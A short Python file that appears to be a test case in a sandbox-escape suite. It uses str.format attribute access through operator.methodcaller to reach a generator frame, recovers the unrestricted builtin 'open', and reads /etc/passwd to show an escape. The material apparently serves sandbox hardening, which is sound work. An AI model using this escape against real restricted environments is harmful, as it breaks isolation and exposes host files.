# tries: a format method that methodcaller calls
# class: formatting
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import operator

try:
    operator.methodcaller("format", (x for x in ()))("{0.gi_frame.nothing}")
except AttributeError as error:
    use(pick(error.obj))
